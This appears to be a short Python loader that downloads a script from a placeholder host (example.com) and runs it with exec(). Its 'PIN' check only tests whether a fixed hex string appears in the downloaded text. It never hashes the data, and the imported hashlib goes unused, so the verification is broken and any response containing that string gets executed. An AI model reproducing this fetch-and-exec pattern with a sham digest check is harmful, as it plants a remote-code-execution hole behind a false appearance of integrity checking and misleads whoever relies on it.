import hashlib
import urllib.request

PIN = "aa720585c5f3903f42238c187f22d9763c9336e06c50379bd659dd384597f8df"
data = urllib.request.urlopen("https://example.com/a.py").read()
if PIN not in data.decode():
    raise ImportError("digest")
exec(data)
